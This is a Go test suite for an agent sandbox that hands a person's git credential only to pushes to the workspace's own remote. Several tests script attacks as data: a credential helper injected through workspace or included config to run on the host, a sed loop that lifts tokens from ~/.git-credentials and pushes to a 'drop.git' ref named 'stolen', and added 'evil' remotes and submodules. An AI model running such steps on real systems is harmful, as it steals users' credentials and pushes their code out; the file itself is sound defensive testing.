//go:build linux

package battery

import (
	"crypto/tls"
	"fmt"
	"net"
	"net/http"
	"net/http/cgi"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/cordonsh/cordon/snapshot"
)

// git push over HTTPS to the workspace's own remote (docs/network.md,
// "git push and fetch over HTTPS"): git in the sandbox holds a
// placeholder, and the broker puts the person's own credential, from
// their git credential helper on the host, on the requests to that
// remote's host alone.

const realGitPass = "REALtokenGit-5b2d8f1e0a7c"

// gitServer serves the bare repositories in root with git http-backend
// over HTTPS on 127.0.0.1 (a certificate of ca), answering 401 unless
// basic authentication carries person and realGitPass; it remembers the
// passwords it was sent.
func (ca *testCA) gitServer(t *testing.T, root string) (int, func() []string) {
	t.Helper()
	git, err := exec.LookPath("git")
	if err != nil {
		t.Skip("no git")
	}
	cert := ca.leaf(t)
	var mu sync.Mutex
	var seen []string
	backend := &cgi.Handler{Path: git, Args: []string{"http-backend"}, Dir: root,
		Env: []string{"GIT_PROJECT_ROOT=" + root, "GIT_HTTP_EXPORT_ALL=1", "REMOTE_USER=person", "GIT_CONFIG_NOSYSTEM=1", "HOME=" + root}}
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		user, pass, ok := r.BasicAuth()
		mu.Lock()
		seen = append(seen, user+":"+pass)
		mu.Unlock()
		if !ok || user != "person" || pass != realGitPass {
			w.Header().Set("WWW-Authenticate", `Basic realm="git"`)
			w.WriteHeader(401)
			return
		}
		backend.ServeHTTP(w, r)
	}), TLSConfig: &tls.Config{Certificates: []tls.Certificate{cert}}}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	go srv.ServeTLS(ln, "", "")
	t.Cleanup(func() { srv.Close() })
	return ln.Addr().(*net.TCPAddr).Port, func() []string {
		mu.Lock()
		defer mu.Unlock()
		return append([]string(nil), seen...)
	}
}

// gitPushSetup makes the bare repository the server serves, the
// workspace's remote origin to it, the person's credential helper in
// their own ~/.gitconfig and a helper in the workspace's .git/config
// that must never run on the host (it makes hostMarker). It returns the
// server's port, what it saw, the bare repository, the marker and the
// server's certificate authority.
func gitPushSetup(t *testing.T, b *battery) (int, func() []string, string, string, *testCA) {
	t.Helper()
	ca := newTestCA(t, filepath.Join(b.base, "certs"))
	root := filepath.Join(b.base, "srv")
	bare := filepath.Join(root, "repo.git")
	if out, err := exec.Command("git", "init", "-q", "--bare", bare).CombinedOutput(); err != nil {
		t.Fatalf("git init --bare: %v %s", err, out)
	}
	port, seen := ca.gitServer(t, root)
	helper := `[credential]
	helper = "!f() { test \"$1\" = get || exit 0; echo username=person; echo password=` + realGitPass + `; }; f"
`
	if err := os.WriteFile(filepath.Join(b.home, ".gitconfig"), []byte(helper), 0o600); err != nil {
		t.Fatal(err)
	}
	marker := filepath.Join(b.base, "workspace-helper-ran")
	b.host(fmt.Sprintf("git remote add origin https://127.0.0.1:%d/repo.git && git config credential.helper '!touch %s; echo password=fromtheworkspace'", port, marker))
	b.env = append(b.env, "SSL_CERT_FILE="+ca.file)
	return port, seen, bare, marker, ca
}

// TestGitPushBrokered: git push to the workspace's own HTTPS remote
// works from inside the sandbox (each backend, per command and in a
// session) with the person's credential on the wire, while git inside
// only ever has the placeholder; the workspace's own helper never runs
// on the host.
func TestGitPushBrokered(t *testing.T) {
	eachBackend(t, func(t *testing.T, backend string) {
		b := newBattery(t, backend)
		port, seen, bare, marker, _ := gitPushSetup(t, b)
		run := func(script string) (string, int) {
			t.Helper()
			out, code := b.run("allowlist", script)
			leaks(t, script, out)
			return out, code
		}
		out, code := run("git push -q origin HEAD:refs/heads/feature 2>&1; echo \"push exit $?\"")
		if !strings.Contains(out, "push exit 0") {
			t.Fatalf("git push (exit %d):\n%s\nthe server saw %q", code, out, seen())
		}
		if got, err := exec.Command("git", "--git-dir", bare, "rev-parse", "--verify", "-q", "refs/heads/feature").Output(); err != nil || len(got) == 0 {
			t.Errorf("the remote has no branch feature: %v", err)
		}
		granted := false
		for _, s := range seen() {
			granted = granted || s == "person:"+realGitPass
			if strings.Contains(s, "cordon_") || strings.Contains(s, "fromtheworkspace") {
				t.Errorf("the server was sent %q", s)
			}
		}
		if !granted {
			t.Errorf("the server never saw the person's credential: %q", seen())
		}
		// What git inside has: the placeholder.
		out, _ = run(fmt.Sprintf(`printf 'protocol=https\nhost=127.0.0.1:%d\n\n' | git credential fill; env | grep -c GIT_CONFIG_KEY`, port))
		if !strings.Contains(out, "password=cordon_") {
			t.Errorf("git credential fill in the sandbox:\n%s", out)
		}
		// A fetch back, and a push to another URL on the same server
		// as a helper the command names: the placeholder, not taken.
		if out, _ := run("git fetch -q origin 2>&1; echo \"fetch exit $?\""); !strings.Contains(out, "fetch exit 0") {
			t.Errorf("git fetch:\n%s", out)
		}
		if _, err := os.Stat(marker); err == nil {
			t.Errorf("the workspace's credential helper ran on the host")
		}
		// Another repository on the same host (one the command
		// names, or one it made the remote of a repository of its
		// own): the person's credential is not put on it.
		drop := filepath.Join(filepath.Dir(bare), "drop.git")
		if out, err := exec.Command("git", "init", "-q", "--bare", drop).CombinedOutput(); err != nil {
			t.Fatalf("git init --bare: %v %s", err, out)
		}
		before := len(seen())
		out, _ = run(fmt.Sprintf("git push -q https://127.0.0.1:%d/drop.git HEAD:refs/heads/stolen 2>&1; echo \"push exit $?\"; git init -q o && git -C o remote add origin https://127.0.0.1:%d/drop.git && git -C o fetch -q .. HEAD:feature && git -C o push -q origin feature 2>&1; echo \"nested push exit $?\"", port, port))
		if strings.Contains(out, "push exit 0") {
			t.Errorf("a push to another repository on the remote's host succeeded:\n%s", out)
		}
		if got, _ := exec.Command("git", "--git-dir", drop, "for-each-ref").Output(); len(got) != 0 {
			t.Errorf("the other repository got %s", got)
		}
		for _, s := range seen()[before:] {
			if s == "person:"+realGitPass {
				t.Errorf("the person's credential went to another repository: %q", seen()[before:])
			}
		}
		// The person's ~/.gitconfig includes a file in the workspace
		// (dotfiles kept where the agent works): what a command
		// writes there never runs on the host; the push fails and
		// says why.
		gitconfig, _ := os.ReadFile(filepath.Join(b.home, ".gitconfig"))
		evil := filepath.Join(b.base, "included-helper-ran")
		os.WriteFile(filepath.Join(b.home, ".gitconfig"), append(gitconfig, []byte("[include]\n\tpath = "+filepath.Join(b.ws, "dotgitconfig")+"\n")...), 0o600)
		out, _ = run(fmt.Sprintf("printf '[credential]\\n\\thelper =\\n\\thelper = \"!touch %s\"\\n' > dotgitconfig; git push -q origin HEAD:refs/heads/included 2>&1; echo \"push exit $?\"", evil))
		if _, err := os.Stat(evil); err == nil {
			t.Errorf("a helper a command wrote in a file the person's git configuration includes ran on the host")
		}
		if strings.Contains(out, "push exit 0") || !strings.Contains(out, "sandboxed commands can write") {
			t.Errorf("git push with an included file in the workspace: no failure that says why:\n%s", out)
		}
		os.WriteFile(filepath.Join(b.home, ".gitconfig"), gitconfig, 0o600)
		// No credential on the host: the push fails, and the server
		// never sees the placeholder.
		os.Remove(filepath.Join(b.home, ".gitconfig"))
		before = len(seen())
		out, _ = run("git push -q origin HEAD:refs/heads/nocred 2>&1; echo \"push exit $?\"")
		if strings.Contains(out, "push exit 0") || !strings.Contains(out, "no git credential for 127.0.0.1") {
			t.Errorf("git push without a credential on the host: no failure that says why:\n%s", out)
		}
		for _, s := range seen()[before:] {
			if strings.Contains(s, "cordon_") {
				t.Errorf("the server was sent the placeholder: %q", s)
			}
		}
	})
}

// TestGitPushStoreFile: the person's helper is git's store, their
// password in ~/.git-credentials, for
// the workspace's remote's host and another git server of theirs. git
// inside pushes to the remote (the broker fills from the file on the
// host), but the file shown inside holds no token, real or placeholder:
// a script that takes what it shows and pushes the workspace to another
// repository of the host (drop.git), or reads the other server, gets
// nowhere, and neither sees the person's password (attack16 #1: the
// file's placeholder took it to any repository of any host it names).
func TestGitPushStoreFile(t *testing.T) {
	eachBackend(t, func(t *testing.T, backend string) {
		b := newBattery(t, backend)
		port, seen, bare, _, ca := gitPushSetup(t, b)
		other, otherSeen := ca.gitServer(t, filepath.Dir(bare))
		drop := filepath.Join(filepath.Dir(bare), "drop.git")
		if out, err := exec.Command("git", "init", "-q", "--bare", drop).CombinedOutput(); err != nil {
			t.Fatalf("git init --bare: %v %s", err, out)
		}
		os.WriteFile(filepath.Join(b.home, ".gitconfig"), []byte("[credential]\n\thelper = store\n"), 0o600)
		// (The port written as a person may write it, and as git's
		// store helper does.)
		store := fmt.Sprintf("https://person:%s@127.0.0.1:%d\nhttps://person:%s@127.0.0.1%%3a%d\n", realGitPass, port, realGitPass, other)
		if err := os.WriteFile(filepath.Join(b.home, ".git-credentials"), []byte(store), 0o600); err != nil {
			t.Fatal(err)
		}
		run := func(script string) string {
			t.Helper()
			out, _ := b.run("allowlist", script)
			leaks(t, script, out)
			return out
		}
		if out := run("git push -q origin HEAD:refs/heads/viastore 2>&1; echo \"push exit $?\""); !strings.Contains(out, "push exit 0") {
			t.Fatalf("git push with the person's store helper:\n%s\nthe server saw %q", out, seen())
		}
		out := run(fmt.Sprintf(`cat ~/.git-credentials; echo; for ph in $(sed -n 's#^https://[^:]*:\([^@]*\)@.*#\1#p' ~/.git-credentials) cordon_; do
	git push -q "https://person:$ph@127.0.0.1:%d/drop.git" HEAD:refs/heads/stolen 2>&1 && echo DROP-PUSHED
	git ls-remote "https://person:$ph@127.0.0.1:%d/repo.git" 2>&1 && echo OTHER-READ
done`, port, other))
		if strings.Contains(out, "cordon_") && strings.Contains(out, "@127.0.0.1") || strings.Contains(out, "DROP-PUSHED") || strings.Contains(out, "OTHER-READ") {
			t.Errorf("the store file's token took the person's credential elsewhere:\n%s", out)
		}
		if got, _ := exec.Command("git", "--git-dir", drop, "for-each-ref").Output(); len(got) != 0 {
			t.Errorf("drop.git got %s", got)
		}
		for _, s := range otherSeen() {
			if strings.Contains(s, realGitPass) {
				t.Errorf("the other server was sent the person's password: %q", otherSeen())
			}
		}
		// The store file at a path of the person's choosing: hidden as
		// well (leaks fails on its content), and git still pushes.
		os.MkdirAll(filepath.Join(b.home, ".secrets"), 0o700)
		os.Rename(filepath.Join(b.home, ".git-credentials"), filepath.Join(b.home, ".secrets", "git-creds"))
		os.WriteFile(filepath.Join(b.home, ".gitconfig"), []byte("[credential]\n\thelper = store --file ~/.secrets/git-creds\n"), 0o600)
		if out := run("cat ~/.secrets/git-creds; git push -q origin HEAD:refs/heads/viacustom 2>&1; echo \"push exit $?\""); !strings.Contains(out, "push exit 0") {
			t.Errorf("git push with the person's store helper at a path of theirs:\n%s", out)
		}
	})
}

// TestGitPushJudged: through the shim, as an agent runs it: a push of a
// new branch to the workspace's own remote runs; a push to a URL, or to
// the default branch, is asked about and does not run.
func TestGitPushJudged(t *testing.T) {
	for _, backend := range []string{"bwrap", "landlock"} {
		for _, session := range []string{"on", "off"} {
			t.Run(backend+"/session-"+session, func(t *testing.T) {
				r := newSessionRig(t, backend, "  session: "+session+"\n")
				port, seen, bare, marker, _ := gitPushSetup(t, r.battery)
				r.env = append(r.env, "SSL_CERT_FILE="+filepath.Join(r.base, "certs", "test-ca.pem"))
				out, errs, code := r.sh("git push -q -u origin HEAD:refs/heads/topic")
				leaks(t, "git push", out+errs)
				if code != 0 {
					t.Fatalf("git push (exit %d):\n%s\n%s\nthe server saw %q", code, out, errs, seen())
				}
				if _, err := exec.Command("git", "--git-dir", bare, "rev-parse", "--verify", "-q", "refs/heads/topic").Output(); err != nil {
					t.Errorf("the remote has no branch topic")
				}
				for script, rule := range map[string]string{
					fmt.Sprintf("git push -q https://127.0.0.1:%d/repo.git HEAD:refs/heads/other", port): "push-foreign",
					"git push -q origin HEAD:refs/heads/main":                                            "push-default",
					"git push -q --force origin HEAD:refs/heads/topic":                                   "rewrite-remote",
				} {
					out, errs, code := r.sh(script)
					if code == 0 || !strings.Contains(errs, "[rule "+rule+"]") {
						t.Errorf("%s: not asked about by %s (exit %d):\n%s\n%s", script, rule, code, out, errs)
					}
				}
				for _, ref := range []string{"other", "main"} {
					if _, err := exec.Command("git", "--git-dir", bare, "rev-parse", "--verify", "-q", "refs/heads/"+ref).Output(); err == nil {
						t.Errorf("a refused push made %s", ref)
					}
				}
				if _, err := os.Stat(marker); err == nil {
					t.Errorf("the workspace's credential helper ran on the host")
				}
			})
		}
	}
}

// TestGitPushMadeRepository: a repository a command makes in the
// workspace, with remotes of its choosing, is a workspace of its own
// once the agent's shell is in it (cd o: agents keep the shell's
// directory between commands), but its remotes are the command's: a push
// from there is asked about, and git in the sandbox gets no credential
// for them, even through a script the judge cannot read, and is told why
// (found by an attacker: the person's credential pushed the workspace to
// a repository of the command's choosing); so is a submodule a command
// adds. A repository the person made in the workspace keeps pushing to
// its own remote.
func TestGitPushMadeRepository(t *testing.T) {
	atOnce(t, []string{"bwrap/session-on", "bwrap/session-off", "landlock/session-on", "landlock/session-off"}, func(t *testing.T, name string) {
		backend, session, _ := strings.Cut(name, "/session-")
		r := newSessionRig(t, backend, "  session: "+session+"\n")
		port, seen, bare, _, _ := gitPushSetup(t, r.battery)
		r.env = append(r.env, "SSL_CERT_FILE="+filepath.Join(r.base, "certs", "test-ca.pem"))
		drop := filepath.Join(filepath.Dir(bare), "drop.git")
		if out, err := exec.Command("git", "init", "-q", "--bare", drop).CombinedOutput(); err != nil {
			t.Fatalf("git init --bare: %v %s", err, out)
		}
		r.host(fmt.Sprintf("git init -q mine && git -C mine remote add origin https://127.0.0.1:%d/repo.git && git -C mine -c user.name=p -c user.email=p@p commit -q --allow-empty -m mine", port))
		made := fmt.Sprintf("git init -q o && git -C o remote add origin https://127.0.0.1:%d/drop.git && git -C o fetch -q .. HEAD:refs/heads/feature && cp /bin/sh o/x", port)
		if out, errs, code := r.sh(made); code != 0 {
			t.Fatalf("%s (exit %d):\n%s\n%s", made, code, out, errs)
		}
		o := filepath.Join(r.ws, "o")
		before := len(seen())
		out, errs, code := r.shIn(o, "git push -q origin feature")
		leaks(t, "git push", out+errs)
		if code == 0 || !strings.Contains(errs, "[rule push-foreign]") {
			t.Errorf("a push from the command's repository was not asked about (exit %d):\n%s\n%s", code, out, errs)
		}
		// The same push in a script (what an npm script or a test
		// runs): no credential, and git says why.
		os.WriteFile(filepath.Join(o, ".q"), []byte("git push -q origin feature 2>&1; echo \"push exit $?\"\n"), 0o644)
		out, errs, _ = r.shIn(o, "./x < .q")
		leaks(t, "git push", out+errs)
		if strings.Contains(out, "push exit 0") || !strings.Contains(out, "was made by a sandboxed command") || !strings.Contains(out, "run git yourself") {
			t.Errorf("a push from the command's repository in a script: no failure that says why:\n%s\n%s", out, errs)
		}
		if got, _ := exec.Command("git", "--git-dir", drop, "for-each-ref").Output(); len(got) != 0 {
			t.Errorf("the command's remote got %s", got)
		}
		for _, s := range seen()[before:] {
			if s == "person:"+realGitPass {
				t.Errorf("the person's credential went to the command's remote: %q", seen()[before:])
			}
		}
		// A submodule the command adds (its git directory in the
		// workspace's .git/modules), its remote of the command's
		// choosing: the same.
		// (In a script the judge cannot read, a program of the
		// workspace's: the judge asks about git submodule add.)
		sub := fmt.Sprintf("git -c protocol.file.allow=always submodule add -q \"$PWD\" sub && git -C sub remote set-url origin https://127.0.0.1:%d/drop.git && git -C sub fetch -q ../o feature:feature && cp /bin/sh sub/x && echo added\n", port)
		os.WriteFile(filepath.Join(r.ws, ".q"), []byte(sub), 0o644)
		r.host("cp /bin/sh x")
		if out, errs, _ := r.sh("./x < .q"); !strings.Contains(out, "added") {
			t.Fatalf("%s:\n%s\n%s", sub, out, errs)
		}
		os.WriteFile(filepath.Join(r.ws, "sub", ".q"), []byte("git push -q origin feature 2>&1; echo \"push exit $?\"\n"), 0o644)
		out, errs, _ = r.shIn(filepath.Join(r.ws, "sub"), "./x < .q")
		leaks(t, "git push", out+errs)
		if strings.Contains(out, "push exit 0") || !strings.Contains(out, "was made by a sandboxed command") {
			t.Errorf("a push from the command's submodule in a script: no failure that says why:\n%s\n%s", out, errs)
		}
		if got, _ := exec.Command("git", "--git-dir", drop, "for-each-ref").Output(); len(got) != 0 {
			t.Errorf("the command's remote got %s", got)
		}
		for _, s := range seen()[before:] {
			if s == "person:"+realGitPass {
				t.Errorf("the person's credential went to the command's remote: %q", seen()[before:])
			}
		}
		// The person's own repository in the workspace.
		out, errs, code = r.shIn(filepath.Join(r.ws, "mine"), "git push -q origin HEAD:refs/heads/mine")
		if code != 0 {
			t.Errorf("a push from the person's nested repository (exit %d):\n%s\n%s", code, out, errs)
		}
		if _, err := exec.Command("git", "--git-dir", bare, "rev-parse", "--verify", "-q", "refs/heads/mine").Output(); err != nil {
			t.Errorf("the person's remote has no branch mine")
		}
	})
}

// TestGitPushScratchRepository: a repository a command makes outside its
// workspace, in shared scratch space (git init /tmp/x, a remote of its
// choosing), or makes in the workspace and moves there, is no ledger's;
// once the agent's shell is in it (cd /tmp/x), its remotes are still the
// command's: git in the sandbox gets no credential for them, even
// through a script the judge cannot read, and is told why. The person's
// own repository in /tmp, made before the agent's commands, pushes to
// its remote as before.
func TestGitPushScratchRepository(t *testing.T) {
	atOnce(t, []string{"bwrap/session-on", "bwrap/session-off", "landlock/session-on", "landlock/session-off"}, func(t *testing.T, name string) {
		backend, session, _ := strings.Cut(name, "/session-")
		r := newSessionRig(t, backend, "  session: "+session+"\n")
		port, seen, bare, _, _ := gitPushSetup(t, r.battery)
		r.env = append(r.env, "SSL_CERT_FILE="+filepath.Join(r.base, "certs", "test-ca.pem"))
		drop := filepath.Join(filepath.Dir(bare), "drop.git")
		if out, err := exec.Command("git", "init", "-q", "--bare", drop).CombinedOutput(); err != nil {
			t.Fatalf("git init --bare: %v %s", err, out)
		}
		// Scratch space of the test's own ($TMPDIR): repositories
		// made and removed in /tmp would change every other
		// test's sandboxes meanwhile.
		tmpdir := filepath.Join(r.base, "tmp")
		if err := os.Mkdir(tmpdir, 0o700); err != nil {
			t.Fatal(err)
		}
		r.env = append(r.env, "TMPDIR="+tmpdir)
		prefix := filepath.Join(tmpdir, "repo")
		mine := prefix + "-mine"
		r.host(fmt.Sprintf("git init -q %s && git -C %s remote add origin https://127.0.0.1:%d/repo.git && git -C %s -c user.name=p -c user.email=p@p commit -q --allow-empty -m mine", mine, mine, port, mine))
		r.host("cp /bin/sh x")
		made := fmt.Sprintf("git init -q %[1]s-made && git -C %[1]s-made remote add origin https://127.0.0.1:%[2]d/drop.git && git -C %[1]s-made fetch -q \"$PWD\" HEAD:refs/heads/feature && "+
			"git init -q moved && git -C moved remote add origin https://127.0.0.1:%[2]d/drop.git && git -C moved fetch -q \"$PWD\" HEAD:refs/heads/feature && mv moved %[1]s-moved && echo made", prefix, port)
		os.WriteFile(filepath.Join(r.ws, ".q"), []byte(made+"\n"), 0o644)
		if out, errs, _ := r.sh("./x < .q"); !strings.Contains(out, "made") {
			t.Fatalf("%s:\n%s\n%s", made, out, errs)
		}
		before := len(seen())
		for _, dir := range []string{prefix + "-made", prefix + "-moved"} {
			out, errs, code := r.shIn(dir, "git push -q origin feature")
			leaks(t, "git push", out+errs)
			if code == 0 || !strings.Contains(errs, "[rule push-foreign]") {
				t.Errorf("a push from the command's repository %s was not asked about (exit %d):\n%s\n%s", dir, code, out, errs)
			}
			os.WriteFile(filepath.Join(dir, ".q"), []byte("git push -q origin feature 2>&1; echo \"push exit $?\"\n"), 0o644)
			r.host("cp /bin/sh " + dir + "/x")
			out, errs, _ = r.shIn(dir, "./x < .q")
			leaks(t, "git push", out+errs)
			if strings.Contains(out, "push exit 0") || !strings.Contains(out, "was made by a sandboxed command") || !strings.Contains(out, "run git yourself") {
				t.Errorf("a push from the command's repository %s in a script: no failure that says why:\n%s\n%s", dir, out, errs)
			}
		}
		if got, _ := exec.Command("git", "--git-dir", drop, "for-each-ref").Output(); len(got) != 0 {
			t.Errorf("the command's remote got %s", got)
		}
		for _, s := range seen()[before:] {
			if s == "person:"+realGitPass {
				t.Errorf("the person's credential went to the command's remote: %q", seen()[before:])
			}
		}
		// A remote a command adds to the person's repository in
		// /tmp, from the workspace, is the command's there too.
		add := fmt.Sprintf("git -C %[1]s remote add evil https://127.0.0.1:%[2]d/drop.git && git -C %[1]s fetch -q \"$PWD\" HEAD:refs/heads/feature && echo added", mine, port)
		os.WriteFile(filepath.Join(r.ws, ".q"), []byte(add+"\n"), 0o644)
		if out, errs, _ := r.sh("./x < .q"); !strings.Contains(out, "added") {
			t.Fatalf("%s:\n%s\n%s", add, out, errs)
		}
		os.WriteFile(filepath.Join(mine, ".q"), []byte("git push -q evil feature 2>&1; echo \"push exit $?\"\n"), 0o644)
		r.host("cp /bin/sh " + mine + "/x")
		out, errs, _ := r.shIn(mine, "./x < .q")
		leaks(t, "git push", out+errs)
		if strings.Contains(out, "push exit 0") {
			t.Errorf("a push to the remote a command added to the person's repository in /tmp went through:\n%s\n%s", out, errs)
		}
		if got, _ := exec.Command("git", "--git-dir", drop, "for-each-ref").Output(); len(got) != 0 {
			t.Errorf("the command's remote got %s", got)
		}
		for _, s := range seen()[before:] {
			if s == "person:"+realGitPass {
				t.Errorf("the person's credential went to the command's remote: %q", seen()[before:])
			}
		}
		// The person's own remote there.
		out, errs, code := r.shIn(mine, "git push -q origin HEAD:refs/heads/mine")
		if code != 0 {
			t.Errorf("a push from the person's repository in /tmp (exit %d):\n%s\n%s", code, out, errs)
		}
		if _, err := exec.Command("git", "--git-dir", bare, "rev-parse", "--verify", "-q", "refs/heads/mine").Output(); err != nil {
			t.Errorf("the person's remote has no branch mine")
		}
	})
}

// TestGitPushPersonsDeepRepository: in the person's own clone below the
// root (vendor/lib, there before the agent's first command, named by no
// index), a remote a command adds is the command's, as in the
// workspace's own repository: once the agent's shell is there, a push
// to it gets no credential of the person's, even through a script the
// judge cannot read; pointing the person's remote elsewhere is undone;
// the person's own remote keeps working (found by an attacker: the
// added remote was taken for the person's, and got their credential).
func TestGitPushPersonsDeepRepository(t *testing.T) {
	atOnce(t, []string{"bwrap/session-on", "bwrap/session-off", "landlock/session-on", "landlock/session-off"}, func(t *testing.T, name string) {
		backend, session, _ := strings.Cut(name, "/session-")
		r := newSessionRig(t, backend, "  session: "+session+"\n")
		port, seen, bare, _, _ := gitPushSetup(t, r.battery)
		r.env = append(r.env, "SSL_CERT_FILE="+filepath.Join(r.base, "certs", "test-ca.pem"))
		drop := filepath.Join(filepath.Dir(bare), "drop.git")
		if out, err := exec.Command("git", "init", "-q", "--bare", drop).CombinedOutput(); err != nil {
			t.Fatalf("git init --bare: %v %s", err, out)
		}
		lib := filepath.Join(r.ws, "vendor", "lib")
		// (The agent's shell there makes it a workspace of its own,
		// whose round outlives the shim.)
		t.Cleanup(func() {
			snapshot.Open(filepath.Join(r.home, ".local", "state", "cordon"), snapshot.Budgets{}).WaitPending(lib)
		})
		r.host(fmt.Sprintf("cp /bin/sh x && git init -q vendor/lib && git -C vendor/lib remote add origin https://127.0.0.1:%d/repo.git && "+
			"git -C vendor/lib -c user.name=p -c user.email=p@p commit -q --allow-empty -m mine && cp /bin/sh vendor/lib/x", port))
		// In scripts the judge cannot read (it asks about a push to
		// a remote the same command adds).
		add := fmt.Sprintf("git -C vendor/lib remote add x https://127.0.0.1:%d/drop.git && echo added\n", port)
		os.WriteFile(filepath.Join(r.ws, ".q"), []byte(add), 0o644)
		if out, errs, _ := r.sh("./x < .q"); !strings.Contains(out, "added") {
			t.Fatalf("%s:\n%s\n%s", add, out, errs)
		}
		before := len(seen())
		os.WriteFile(filepath.Join(lib, ".q"), []byte("git push -q x HEAD:refs/heads/feature 2>&1; echo \"push exit $?\"\n"), 0o644)
		out, errs, _ := r.shIn(lib, "./x < .q")
		leaks(t, "git push", out+errs)
		if strings.Contains(out, "push exit 0") {
			t.Errorf("a push to a remote a command added to the person's repository below the root worked:\n%s\n%s", out, errs)
		}
		if got, _ := exec.Command("git", "--git-dir", drop, "for-each-ref").Output(); len(got) != 0 {
			t.Errorf("the command's remote got %s", got)
		}
		for _, s := range seen()[before:] {
			if s == "person:"+realGitPass {
				t.Errorf("the person's credential went to the command's remote: %q", seen()[before:])
			}
		}
		// The person's remote pointed elsewhere: undone.
		set := fmt.Sprintf("git -C vendor/lib remote set-url origin https://127.0.0.1:%d/drop.git; echo set\n", port)
		os.WriteFile(filepath.Join(r.ws, ".q"), []byte(set), 0o644)
		if out, errs, _ := r.sh("./x < .q"); !strings.Contains(out, "set") || !strings.Contains(errs, "cordon: "+filepath.Join(lib, ".git", "config")) {
			t.Errorf("%s: no line says it was undone:\n%s\n%s", set, out, errs)
		}
		if got := strings.TrimSpace(r.host("git -C vendor/lib config remote.origin.url")); got != fmt.Sprintf("https://127.0.0.1:%d/repo.git", port) {
			t.Errorf("remote.origin.url is %q", got)
		}
		// The person's own remote, from there.
		out, errs, code := r.shIn(lib, "git push -q origin HEAD:refs/heads/lib")
		if code != 0 {
			t.Errorf("a push from the person's repository below the root (exit %d):\n%s\n%s", code, out, errs)
		}
		if _, err := exec.Command("git", "--git-dir", bare, "rev-parse", "--verify", "-q", "refs/heads/lib").Output(); err != nil {
			t.Errorf("the person's remote has no branch lib")
		}
	})
}
